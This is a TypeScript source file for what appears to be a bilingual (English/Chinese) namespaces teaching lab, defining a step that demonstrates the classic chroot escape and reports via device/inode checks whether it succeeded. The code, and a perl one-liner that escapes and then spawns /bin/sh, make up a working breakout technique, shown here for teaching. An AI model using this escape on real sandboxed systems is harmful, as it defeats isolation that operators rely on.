import { statSync } from 'node:fs';
import { formatDevice } from '../kernel/device-number.ts';
import { KernelError } from '../kernel/errors.ts';
import { AT } from '../kernel/flags.ts';
import { readStatus } from '../kernel/proc/status.ts';
import type { ProxyTask } from '../kernel/proxy/proxy-task.ts';
import { StepOrderError } from '../lab/errors.ts';
import { hasOverlay } from './mounting.ts';
import { flag } from './params.ts';
import { orBackInPlace } from './place.ts';
import { defineStep, type StepContext } from './step.ts';

const NAME = '.ns-lab-escape';
/** Far more levels than lie between any root here and the real one. */
const MAX_DEPTH = 64;

export const escapeStep = defineStep({
  name: 'escape',
  group: 'files',
  summary: {
    en: 'try the well-known way out of a chroot, and show whether it worked',
    'zh-CN': '尝试众所周知的 chroot 逃逸方法，并显示是否成功',
  },
  params: {
    stay: flag({
      en: 'the box itself walks out and stays outside, instead of a fork that ends',
      'zh-CN': '盒子自己走出去并留在外面，而不是用一个随后结束的子进程',
    }),
  },
  man: ['chroot(2)'],
  example: 'escape',
  notes: [
    {
      en: 'A second chroot into a subdirectory leaves the working directory above the new root; from there ".." is not stopped and leads up to the real root.',
      'zh-CN':
        '再一次 chroot 到子目录，会让工作目录留在新根之上；从那里走 ".." 没有东西拦着，一直走到真正的根。',
    },
    {
      en: 'A fork of the box tries it, so the box itself stays where it is. With --stay the box itself goes; `chroot` puts it back.',
      'zh-CN':
        '由盒子 fork 出的子进程去试，盒子自己原地不动。用 --stay 则是盒子自己走出去；`chroot` 可以让它回来。',
    },
  ],
  run(context, { stay }) {
    const { box } = context;
    if (box.isPidNamespacePending) {
      throw new StepOrderError(
        {
          en: 'the attempt would become process 1 of the new PID namespace, and end it with its own end',
          'zh-CN': '这次尝试会成为新 PID 命名空间的 1 号进程，它一结束，整个命名空间也就结束',
        },
        'fork',
      );
    }
    const [before, host] = [rootIdentity(box.pid), rootIdentity(context.host.pid)];
    if (before === host) {
      context.note({
        en: "there is nothing to escape from: the box's root is the host's",
        'zh-CN': '没有什么可逃的：盒子的根就是宿主机的根',
      });
      return undefined;
    }
    const reached = stay ? goItself(context) : sendFork(context);
    context.note({
      en: `root directory (device and inode): host ${host}, box ${before}, after the attempt ${reached}`,
      'zh-CN': `根目录（设备和 inode）：宿主机 ${host}，盒子 ${before}，尝试之后 ${reached}`,
    });
    if (reached === host)
      context.note({
        en: "it worked: the process is in the host's root directory again",
        'zh-CN': '成功了：进程又回到了宿主机的根目录',
      });
    else
      context.note({
        en: 'it did not work: the old root is not above the new one any more',
        'zh-CN': '没有成功：旧根已经不在新根之上了',
      });
    // chroot(1) would change the working directory with the root, and that is what must not happen.
    context.shell(
      `perl -e 'mkdir "x"; chroot "x"; chdir ".." for 1..${MAX_DEPTH}; chroot "."; exec "/bin/sh"'`,
    );
    return undefined;
  },
});

function sendFork({ task }: StepContext): string {
  const child = task.fork('escape');
  try {
    walkOut(child);
    return rootIdentity(child.pid);
  } finally {
    end(task, child);
  }
}

function goItself({ task, box, host }: StepContext): string {
  orBackInPlace(task, () => walkOut(task));
  const reached = rootIdentity(box.pid);
  // The overlay waits for `chroot` again, as it did before the first one.
  if (reached === rootIdentity(host.pid)) box.isRootPending = hasOverlay(box);
  return reached;
}

/** Ends the fork and takes its exit status, so that no zombie stays in the box. */
function end(parent: ProxyTask, child: ProxyTask): void {
  const inside = readStatus(child.pid).nspid.at(-1)!;
  child.close();
  parent.plumbing(() => parent.call('wait4', inside, null, 0, null));
}

function walkOut(task: ProxyTask): void {
  task.call('chdir', '/');
  let isMade = false;
  try {
    task.call('mkdirat', AT.AT_FDCWD, NAME, 0o700);
    isMade = true;
  } catch (error) {
    if (!(error instanceof KernelError) || error.code !== 'EEXIST') throw error;
  }
  try {
    task.call('chroot', NAME);
  } finally {
    // The working directory is still above the new root: nothing stops "..".
    if (isMade) task.call('unlinkat', AT.AT_FDCWD, NAME, AT.AT_REMOVEDIR);
  }
  let previous = '';
  for (let depth = 0; depth < MAX_DEPTH; depth++) {
    task.call('chdir', '..');
    const here = identity(`/proc/${task.pid}/cwd/.`);
    if (here === previous) break;
    previous = here;
  }
  task.call('chroot', '.');
}

const rootIdentity = (pid: number): string => identity(`/proc/${pid}/root/.`);

function identity(path: string): string {
  const { dev, ino } = statSync(path);
  // The device as mountinfo and `show mounts` have it, proc_pid_mountinfo(5).
  return `${formatDevice(dev)} ${ino}`;
}
